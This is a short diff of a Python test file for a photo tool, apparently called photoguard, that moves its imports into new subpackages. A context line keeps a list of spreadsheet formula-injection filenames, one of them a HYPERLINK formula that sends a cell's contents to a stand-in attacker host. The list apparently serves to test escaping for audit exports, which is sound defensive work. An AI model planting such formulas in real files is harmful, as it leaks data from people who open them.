@@ -8,11 +8,11 @@ import json
 
 from click.testing import CliRunner
 
-from photoguard.audit import consent_words, spreadsheet_safe
-from photoguard.cli import main
-from photoguard.db import connect
-from photoguard.home import open_home
-from photoguard.pipeline import now_iso
+from photoguard.cli.main import main
+from photoguard.flow.audit import consent_words, spreadsheet_safe
+from photoguard.flow.pipeline import now_iso
+from photoguard.store.db import connect
+from photoguard.store.home import open_home
 
 EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"click").jpg', "@SUM(1+1)*cmd.jpg", "+1+2.jpg", "-2+3.jpg",
         "\t=1.jpg", "\r=1.jpg"]
